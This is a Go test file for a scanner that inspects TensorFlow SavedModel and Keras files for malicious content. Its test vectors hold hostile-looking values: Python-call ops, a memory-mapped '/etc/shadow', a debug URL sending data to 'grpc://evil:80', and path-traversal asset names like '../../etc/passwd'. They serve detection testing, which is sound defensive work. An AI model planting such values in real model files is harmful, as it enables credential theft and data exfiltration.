package keras

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/modelvet/modelvet/formats"
	"github.com/modelvet/modelvet/formats/formatstest"
)

// Protobuf builders for SavedModel test vectors (no TensorFlow needed).
func msg(fields ...[]byte) []byte { return bytes.Join(fields, nil) }

func lf(num protowire.Number, payload []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, num, protowire.BytesType), payload)
}

func sf(num protowire.Number, s string) []byte { return lf(num, []byte(s)) }

func vf(num protowire.Number, v uint64) []byte {
	return protowire.AppendVarint(protowire.AppendTag(nil, num, protowire.VarintType), v)
}

// node builds a NodeDef; attrs are key/AttrValue.s pairs.
func node(name, op string, attrs ...string) []byte {
	b := msg(sf(1, name), sf(2, op), sf(3, "input:0"))
	for i := 0; i+1 < len(attrs); i += 2 {
		b = append(b, lf(5, msg(sf(1, attrs[i]), lf(2, sf(2, attrs[i+1]))))...)
	}
	return b
}

func savedModel(graph []byte, meta ...[]byte) []byte {
	mg := msg(lf(1, sf(4, "serve")), lf(2, graph))
	for _, m := range meta {
		mg = append(mg, m...)
	}
	return msg(vf(1, 1), lf(2, mg))
}

// saverGraph is what every SavedModel carries to restore its variables.
func saverGraph() []byte {
	return msg(
		lf(1, node("Const", "Const")),
		lf(1, node("save/SaveV2", "SaveV2")),
		lf(1, node("save/RestoreV2", "RestoreV2")),
		lf(1, node("save/MergeV2Checkpoints", "MergeV2Checkpoints")),
		lf(1, node("save/ShardedFilename", "ShardedFilename")),
		lf(1, node("init_table", "InitializeTableFromTextFileV2")),
		lf(4, vf(1, 1500)),
	)
}

func function(name string, nodes ...[]byte) []byte {
	f := lf(1, sf(1, name))
	for _, n := range nodes {
		f = append(f, lf(3, n)...)
	}
	return lf(2, lf(1, f)) // GraphDef.library{function}
}

func TestSavedModel(t *testing.T) {
	lambdaMeta := `{"class_name": "Lambda", "config": {"name": "l", "function": ["4wAAAAAAAAAAAAAAAAEAAAADAAAA", null, null]}}`
	cases := []struct {
		name string
		file string
		data []byte
		expect
	}{
		{"real saver graph", "saved_model.pb", savedModel(saverGraph()), expect{}},
		{"frozen graph", "frozen.pb", msg(lf(1, node("x", "Const")), lf(1, node("y", "MatMul"))), expect{}},
		{"pyfunc in graph", "saved_model.pb", savedModel(append(saverGraph(), lf(1, node("bad", "PyFunc", "token", "pyfunc_0"))...)), expect{"tf/python-call", formats.High}},
		{"pyfunc hidden in a function", "saved_model.pb", savedModel(append(saverGraph(), function("__inference_call_12", node("f", "EagerPyFunc"))...)), expect{"tf/python-call", formats.High}},
		{"write file", "saved_model.pb", savedModel(msg(lf(1, node("w", "WriteFile")))), expect{"tf/file-write", formats.High}},
		{"print to file", "saved_model.pb", savedModel(msg(lf(1, node("p", "PrintV2", "output_stream", "file:///tmp/x")))), expect{"tf/file-write", formats.High}},
		{"print to stderr is fine", "saved_model.pb", savedModel(msg(lf(1, node("p", "PrintV2", "output_stream", "stderr")))), expect{}},
		{"immutable const mmaps a path", "saved_model.pb", savedModel(msg(lf(1, node("c", "ImmutableConst", "memory_region_name", "/etc/shadow")))), expect{"tf/file-read", formats.High}},
		{"debug dump to a server", "saved_model.pb", savedModel(msg(lf(1, msg(sf(1, "d"), sf(2, "DebugIdentity"), lf(5, msg(sf(1, "debug_urls"), lf(2, lf(1, sf(2, "grpc://evil:80"))))))))), expect{"tf/file-write", formats.High}},
		{"tf.data CSV reader", "saved_model.pb", savedModel(msg(lf(1, node("c", "CSVDatasetV2")))), expect{"tf/file-read", formats.Medium}},
		{"tf.data snapshot writes a folder", "saved_model.pb", savedModel(msg(lf(1, node("s", "SnapshotDatasetV2")))), expect{"tf/file-write", formats.Medium}},
		{"file-system reconfiguration", "saved_model.pb", savedModel(msg(lf(1, node("f", "FileSystemSetConfiguration")))), expect{"tf/file-write", formats.High}},
		{"asset escapes", "saved_model.pb", savedModel(saverGraph(), lf(6, msg(lf(1, nil), sf(2, "../../etc/passwd")))), expect{"tf/asset-path", formats.High}},
		{"asset named after a Windows device", "saved_model.pb", savedModel(saverGraph(), lf(6, msg(lf(1, nil), sf(2, "CON")))), expect{"tf/asset-path", formats.High}},
		{"asset of dots only (stripped by Windows)", "saved_model.pb", savedModel(saverGraph(), lf(6, msg(lf(1, nil), sf(2, "...")))), expect{"tf/asset-path", formats.High}},
		{"checkpoint write in a serving function", "saved_model.pb", savedModel(append(saverGraph(), function("__inference_serve_123", node("w", "SaveV2"))...)), expect{"tf/file-write", formats.Medium}},
		{"checkpoint write in the traced save function", "saved_model.pb", savedModel(append(saverGraph(), function("__inference__traced_save_456", node("w", "SaveV2"), node("m", "MergeV2Checkpoints"))...)), expect{}},
		{"plain asset", "saved_model.pb", savedModel(saverGraph(), lf(6, msg(lf(1, nil), sf(2, "vocab.txt")))), expect{}},
		{"keras lambda in object graph", "saved_model.pb", savedModel(saverGraph(), lf(7, lf(1, lf(4, msg(sf(1, "_tf_keras_layer"), sf(3, lambdaMeta)))))), expect{"keras/lambda-code", formats.Critical}},
		{"keras_metadata lambda", "keras_metadata.pb", msg(lf(1, msg(vf(2, 1), sf(3, "root.layer-1"), sf(4, "_tf_keras_layer"), sf(5, lambdaMeta)))), expect{"keras/lambda-code", formats.Critical}},
		{"fingerprint.pb beside every modern SavedModel", "fingerprint.pb", msg(vf(1, 123456789), vf(2, 42), vf(3, 7), vf(4, 9), vf(5, 11), lf(6, vf(1, 1))), expect{}},
		{"truncated", "saved_model.pb", savedModel(saverGraph())[:40], expect{"tf/malformed", formats.High}},
		{"graph_def as varint", "saved_model.pb", msg(vf(1, 1), lf(2, vf(2, 5))), expect{"tf/malformed", formats.High}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res := formatstest.ScanBytes(t, c.file, c.data, nil)
			if res.Format != "tf-savedmodel" {
				t.Fatalf("format %q\n%s", res.Format, formatstest.Describe(res))
			}
			check(t, res, c.expect)
		})
	}
}

func FuzzSavedModel(f *testing.F) {
	f.Add(savedModel(saverGraph()))
	f.Add(savedModel(append(saverGraph(), function("fn", node("f", "PyFunc"))...), lf(7, lf(1, lf(4, sf(3, `{"class_name":"Lambda"}`))))))
	if p := filepath.Join("..", "..", "..", "shared", "peers", "modelaudit", "samples", "tensorflow", "malicious_pyfunc", "saved_model.pb"); true {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	o := formats.DefaultOptions()
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, name := range []string{"saved_model.pb", "keras_metadata.pb", "g.pb"} {
			res := &formats.FileResult{}
			analyzeSavedModel(formats.NewScope(name, &o, res), bytes.NewReader(data), int64(len(data)))
			for _, x := range res.Findings {
				if x.Rule == "formats/analyzer-failure" {
					t.Fatal(x.Message)
				}
			}
		}
	})
}
